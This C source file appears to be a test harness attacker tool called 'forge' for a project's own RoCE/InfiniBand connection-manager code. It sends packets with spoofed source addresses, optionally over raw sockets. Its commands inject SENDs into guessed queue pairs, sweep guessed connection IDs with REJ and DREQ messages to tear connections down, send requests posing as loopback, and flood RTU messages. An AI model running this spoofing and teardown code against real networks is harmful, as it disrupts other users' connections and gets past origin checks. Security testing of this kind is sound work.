/* An attacker: sends packets that claim to come from somebody else, and says what came back.
 *
 *   forge [-u UID] [-r] FROM TO COMMAND [ARGUMENT...]
 *
 * FROM is the address that the packets carry: it is bound, to a port that is free (-p PORT: to
 * that one), or with -r written into packets of a raw socket. With -u it is another user who
 * sends.
 *
 *   send QPN PSN TEXT     one SEND to a queue pair
 *   sends PSN...          SENDs to the first queue pairs of every slot as numbers once were, with
 *                         each PSN
 *   rejs, dreqs           a REJ without a number, a DREQ, to every connection as numbers once were
 *   reqs PORT COUNT       COUNT different requests to a service
 *   floods SLOT COUNT     COUNT messages about connections that the process there does not have
 *   hears SECONDS         print what comes to FROM meanwhile: kind, number, TransactionID, PSN,
 *                         queue pair
 *   holds SECONDS         only hold the port
 *
 * Prints "sent PACKETS BYTES" and "heard PACKETS BYTES". */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "port/udp.h"
#include "wire/ib_cm.h"
#include "wire/ib_opcode.h"
#include "wire/roce.h"

#define SLOTS       1024u
#define SLOT_QPS    14u
#define SLOT_IDS    22u
#define PER_SLOT    3u
#define HEARD_BYTES 4096u

static struct udp_address from, to;
static uint16_t from_port;
static int sock = -1, raw = -1;
static unsigned long sent, sent_bytes, heard, heard_bytes;

static void fail(const char *what)
{
	fprintf(stderr, "forge: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void send_raw(const struct roce_path *path, const struct ib_packet *packet)
{
	uint8_t data[1024];
	struct sockaddr_in name = {.sin_family = AF_INET};
	size_t bytes = roce_encode(path, packet, data, sizeof(data));
	memcpy(&name.sin_addr, to.gid + 12, 4);
	if (bytes == 0 || sendto(raw, data, bytes, 0, (struct sockaddr *)&name, sizeof(name)) < 0)
		fail("a raw packet");
	sent++;
	sent_bytes += bytes;
}

static void send_packet(const struct ib_packet *packet)
{
	struct roce_path path = {.src_port = from_port, .dont_fragment = true, .hop_limit = 64};
	uint8_t data[1024];
	int error = 0;
	memcpy(path.sgid, from.gid, 16);
	memcpy(path.dgid, to.gid, 16);
	if (raw >= 0) {
		send_raw(&path, packet);
		return;
	}
	size_t bytes = roce_udp_encode(&path, packet, data, sizeof(data));
	struct udp_train train = {.to = to,
	                          .packets = 1,
	                          .packet_bytes = (uint32_t)bytes,
	                          .bytes = (uint32_t)bytes,
	                          .data = data};
	for (unsigned tries = 0; udp_send(sock, &train, 1, &error) != 1; tries++) {
		if (error != EAGAIN || tries > 10000) {
			errno = error;
			fail("a packet");
		}
		poll(NULL, 0, 1);
	}
	sent++;
	sent_bytes += bytes + 28;
}

static void send_text(uint32_t qpn, uint32_t psn, const char *text)
{
	struct ib_packet packet = {.bth = {.opcode = IB_RC + IB_OP_SEND_ONLY,
	                                   .migreq = true,
	                                   .pkey = 0xffff,
	                                   .dest_qp = qpn,
	                                   .ack_request = true,
	                                   .psn = psn},
	                           .payload = (const uint8_t *)text,
	                           .payload_bytes = strlen(text) + 1};
	send_packet(&packet);
}

static void send_mad(const struct ib_cm_message *message)
{
	uint8_t mad[MAD_BYTES];
	struct ib_packet packet = {
	        .bth = {.opcode = IB_UD + IB_OP_SEND_ONLY, .pkey = 0xffff, .dest_qp = MAD_GSI_QPN},
	        .deth = {.qkey = MAD_GSI_QKEY, .src_qp = MAD_GSI_QPN},
	        .payload = mad,
	        .payload_bytes = MAD_BYTES};
	ib_cm_encode(message, mad);
	send_packet(&packet);
}

static void sweep(enum ib_cm_kind kind)
{
	for (uint32_t slot = 0; slot < SLOTS; slot++)
		for (uint32_t handle = 0; handle < PER_SLOT; handle++) {
			struct ib_cm_message message = {.kind = kind, .transaction_id = slot};
			uint32_t number = slot << SLOT_IDS | 0x10000u | handle;
			message.u.rej.remote_id = number;
			if (kind == IB_CM_REJ) {
				message.u.rej.about = IB_CM_ABOUT_OTHER;
				message.u.rej.reason = IB_CM_CONSUMER;
			} else {
				message.u.dreq.local_id = number;
				message.u.dreq.remote_qpn = slot << SLOT_QPS | (1 + handle);
			}
			send_mad(&message);
		}
}

static void ask(uint16_t port, unsigned count)
{
	static const uint8_t loopback[4] = {127, 0, 0, 1};
	for (unsigned i = 0; i < count; i++) {
		struct ib_cm_message req = {.kind = IB_CM_REQ, .transaction_id = i + 1};
		struct ib_cm_ip ip = {.family = 4, .port = 1};
		req.u.req.local_id = i + 1;
		req.u.req.ca_guid = 77;
		req.u.req.qpn = i + 2;
		req.u.req.service_id = ib_cm_service(0x106, port);
		req.u.req.remote_response_timeout = req.u.req.local_response_timeout = 14;
		req.u.req.primary.ack_timeout = 14;
		req.u.req.max_retries = 15;
		req.u.req.mtu = 3;
		memcpy(req.u.req.primary.local_gid, from.gid, 16);
		memcpy(req.u.req.primary.remote_gid, to.gid, 16);
		memcpy(ip.src + 12, loopback, 4); /* as if the host itself asked */
		memcpy(ip.dst + 12, to.gid + 12, 4);
		ib_cm_ip_encode(&ip, req.u.req.private_data);
		send_mad(&req);
	}
}

static void flood(uint32_t slot, unsigned count)
{
	for (unsigned i = 0; i < count; i++) {
		struct ib_cm_message rtu = {.kind = IB_CM_RTU, .transaction_id = i};
		rtu.u.rtu.local_id = 7;
		rtu.u.rtu.remote_id = slot << SLOT_IDS | (i + 1);
		send_mad(&rtu);
		if (i % 64 == 63)
			poll(NULL, 0, 1); /* so that sockets do not overflow */
	}
}

static void print_mad(const uint8_t *data, size_t bytes, const struct sockaddr_in *name)
{
	struct roce_path path = {
	        .src_port = ntohs(name->sin_port), .dont_fragment = true, .hop_limit = 64};
	struct ib_packet packet;
	struct ib_cm_message message;
	memcpy(path.sgid, from.gid, 12);
	memcpy(path.sgid + 12, &name->sin_addr, 4);
	memcpy(path.dgid, from.gid, 16);
	if (roce_udp_decode(&path, &packet, data, bytes) != IB_OK ||
	    ib_cm_decode(&message, packet.payload, packet.payload_bytes) != IB_CM_OK)
		return;
	bool req = message.kind == IB_CM_REQ;
	printf("message %#x %#x %#llx %#x %#x\n", message.kind, message.u.rtu.local_id,
	       (unsigned long long)message.transaction_id, req ? message.u.req.psn : 0,
	       req ? message.u.req.qpn : 0);
	fflush(stdout);
}

static double now_s(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void hear(double seconds)
{
	double until = now_s() + seconds;
	for (double left = seconds; left > 0; left = until - now_s()) {
		struct pollfd readable = {.fd = sock, .events = POLLIN};
		uint8_t data[HEARD_BYTES];
		struct sockaddr_in name;
		socklen_t length = sizeof(name);
		if (poll(&readable, 1, (int)(left * 1000) + 1) <= 0)
			continue;
		ssize_t got = recvfrom(sock, data, sizeof(data), MSG_DONTWAIT,
		                       (struct sockaddr *)&name, &length);
		if (got < 0)
			continue;
		heard++;
		heard_bytes += (unsigned long)got + 28;
		print_mad(data, (size_t)got, &name);
	}
}

static void run(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		if (strcmp(argv[i], "send") == 0 && i + 3 < argc) {
			send_text((uint32_t)strtoul(argv[i + 1], NULL, 0),
			          (uint32_t)strtoul(argv[i + 2], NULL, 0), argv[i + 3]);
			i += 3;
		} else if (strcmp(argv[i], "sends") == 0) {
			for (i++; i < argc; i++)
				for (uint32_t slot = 0; slot < SLOTS; slot++)
					for (uint32_t qp = 1; qp <= PER_SLOT; qp++)
						send_text(slot << SLOT_QPS | qp,
						          (uint32_t)strtoul(argv[i], NULL, 0),
						          "forged");
		} else if (strcmp(argv[i], "rejs") == 0) {
			sweep(IB_CM_REJ);
		} else if (strcmp(argv[i], "dreqs") == 0) {
			sweep(IB_CM_DREQ);
		} else if (strcmp(argv[i], "reqs") == 0 && i + 2 < argc) {
			ask((uint16_t)atoi(argv[i + 1]), (unsigned)atoi(argv[i + 2]));
			i += 2;
		} else if (strcmp(argv[i], "floods") == 0 && i + 2 < argc) {
			flood((uint32_t)atoi(argv[i + 1]), (unsigned)atoi(argv[i + 2]));
			i += 2;
		} else if (strcmp(argv[i], "hears") == 0 && i + 1 < argc) {
			hear(atof(argv[++i]));
		} else if (strcmp(argv[i], "holds") == 0 && i + 1 < argc) {
			poll(NULL, 0, (int)(atof(argv[++i]) * 1000));
		} else {
			fprintf(stderr, "forge: what is '%s'?\n", argv[i]);
			exit(2);
		}
	}
}

int main(int argc, char **argv)
{
	bool is_raw = false;
	int option;
	unsigned uid = 0, port = 0;
	while ((option = getopt(argc, argv, "+u:rp:")) >= 0)
		if (option == 'u')
			uid = (unsigned)atoi(optarg);
		else if (option == 'p')
			port = (unsigned)atoi(optarg);
		else if (option == 'r')
			is_raw = true;
		else
			return 2;
	if (argc - optind < 3 || !udp_address_parse(argv[optind], &from) ||
	    !udp_address_parse(argv[optind + 1], &to))
		return 2;
	prctl(PR_SET_PDEATHSIG, 9);
	if (uid != 0 && (setgid(uid) != 0 || setuid(uid) != 0))
		fail("another user");
	from_port = 0xd431;
	if (is_raw) {
		raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
		if (raw < 0)
			fail("a raw socket");
	} else {
		struct sockaddr_in name;
		socklen_t length = sizeof(name);
		sock = udp_open(&from, (uint16_t)port);
		if (sock < 0 || getsockname(sock, (struct sockaddr *)&name, &length) != 0)
			fail("the port");
		from_port = ntohs(name.sin_port);
	}
	printf("ready\n");
	fflush(stdout);
	run(argc - optind - 2, argv + optind + 2);
	printf("sent %lu %lu\nheard %lu %lu\n", sent, sent_bytes, heard, heard_bytes);
	return 0;
}
